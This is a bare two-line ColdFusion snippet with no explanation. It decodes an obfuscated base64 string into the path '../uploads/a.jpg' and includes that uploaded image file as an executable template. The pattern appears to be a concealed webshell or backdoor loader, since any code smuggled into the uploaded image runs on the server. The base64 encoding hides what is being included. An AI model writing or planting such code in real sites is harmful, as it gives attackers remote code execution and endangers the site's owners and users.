<cfset p = toString(toBinary("Li4vdXBsb2Fkcy9hLmpwZw=="))>
<cfinclude template="#p#">
